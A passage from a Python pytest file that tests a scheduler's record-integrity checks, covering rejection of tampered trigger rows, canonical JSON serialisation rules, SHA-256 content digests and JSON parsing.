    ("expression-invalid", lambda r, e: e["config"].update(expression="0 3 * *")),
    ("misfire-invalid", lambda r, e: e["config"].update(misfirePolicy="catch_up")),
    ("extra-config-key", lambda r, e: e["config"].update(jitter=5)),
    ("schema", lambda r, e: e.update(schema="qinglong/cron@v2")),
    ("extra-top-key", lambda r, e: e.update(extra=1)),
]


@pytest.mark.parametrize(
    "tamper", [t[1] for t in TRIGGER_TAMPERING], ids=[t[0] for t in TRIGGER_TAMPERING]
)
def test_tampered_trigger_rows_are_record_corrupt(
    tamper: Callable[[dict[str, object], dict[str, Any]], None],
) -> None:
    row, envelope = trigger_row(make_trigger())
    tamper(row, envelope)
    with pytest.raises(RecordCorrupt):
        trigger_revision_from_row(row, envelope)


def test_untampered_copies_still_verify() -> None:
    """Guards the tampering tables: a deep copy of an untouched row must still load."""
    row, envelope = trigger_row(make_trigger())
    assert trigger_revision_from_row(copy.deepcopy(row), copy.deepcopy(envelope)) == make_trigger()
    row, envelope = task_row(make_task())
    assert task_revision_from_row(copy.deepcopy(row), copy.deepcopy(envelope)) == make_task()


# --- canonical JSON -----------------------------------------------------------------------


def test_canonical_json_sorts_keys_at_every_level_without_whitespace() -> None:
    value = {"b": 1, "a": {"d": [3, {"z": True, "y": None}], "c": "x"}}
    assert canonical_json(value) == '{"a":{"c":"x","d":[3,{"y":null,"z":true}]},"b":1}'


def test_canonical_json_orders_keys_by_code_point_and_keeps_utf8() -> None:
    assert canonical_json({"é": 1, "z": 2, "Z": 3, "_": 4}) == '{"Z":3,"_":4,"z":2,"é":1}'
    assert canonical_json({"name": "café ☕"}) == '{"name":"café ☕"}'


def test_canonical_json_equal_mappings_render_identically() -> None:
    assert canonical_json({"a": 1, "b": [1, 2]}) == canonical_json({"b": (1, 2), "a": 1})


@pytest.mark.parametrize("number", [0, -1, 2**53 - 1, -(2**53 - 1)])
def test_canonical_json_integers_within_the_safe_range(number: int) -> None:
    assert canonical_json({"n": number}) == f'{{"n":{number}}}'


@pytest.mark.parametrize("number", [2**53, -(2**53), 10**20])
def test_canonical_json_integers_outside_the_safe_range(number: int) -> None:
    invalid("$.n", "out of range")(lambda: canonical_json({"n": number}))


@pytest.mark.parametrize(
    ("value", "path"),
    [(1.0, "$"), (0.5, "$"), (float("nan"), "$"), (float("inf"), "$"),
     ({"a": [1, 2.5]}, "$.a[1]"), ({"t": 60_000.0}, "$.t"), ([{"x": {"y": -0.0}}], "$[0].x.y")],
    ids=["1.0", "0.5", "nan", "inf", "nested-list", "timeout-like", "deep"],
)
def test_canonical_json_rejects_floats(value: object, path: str) -> None:
    invalid(path, "float is not allowed")(lambda: canonical_json(value))


@pytest.mark.parametrize(
    "value", [{1, 2}, b"bytes", Decimal(1), object(), {"a": frozenset()}],
    ids=["set", "bytes", "decimal", "object", "nested-frozenset"],  # stable under pytest-xdist
)
def test_canonical_json_rejects_foreign_types(value: object) -> None:
    with pytest.raises(InvalidInput):
        canonical_json(value)


def test_canonical_json_rejects_non_string_keys() -> None:
    invalid("$", "keys must be strings")(lambda: canonical_json({1: "a"}))
    invalid("$.a", "keys must be strings")(lambda: canonical_json({"a": {None: 1}}))


def test_canonical_json_nesting_limit() -> None:
    def nested(levels: int) -> object:
        value: object = 1
        for _ in range(levels):
            value = [value]
        return value

    assert canonical_json(nested(16)) == "[" * 16 + "1" + "]" * 16
    invalid("$" + "[0]" * 17, "nested too deeply")(lambda: canonical_json(nested(17)))


def test_content_digest_is_sha256_of_prefix_nul_json() -> None:
    value = {"b": [1, "ü"], "a": None}
    text = '{"a":null,"b":[1,"ü"]}'
    assert content_digest("p.v1", value) == hashlib.sha256(
        b"p.v1\x00" + text.encode("utf-8")
    ).hexdigest()
    assert content_digest("p.v1", value) != content_digest("p.v2", value)
    digest = content_digest("p.v1", value)
    assert len(digest) == 64 and digest == digest.lower()
    invalid("$.x")(lambda: content_digest("p", {"x": 1.5}))


def test_verify_digest_fails_closed() -> None:
    verify_digest("a" * 64, "a" * 64, "thing")
    with pytest.raises(RecordCorrupt) as info:
        verify_digest("a" * 64, "b" * 64, "thing x")
    assert "thing x" in str(info.value)


def test_parse_json_object() -> None:
    assert parse_json_object('{"a": [1]}', "row") == {"a": [1]}
    for text in ("not json", "[1, 2]", '"s"', "", "{"):
        with pytest.raises(RecordCorrupt):
            parse_json_object(text, "row")
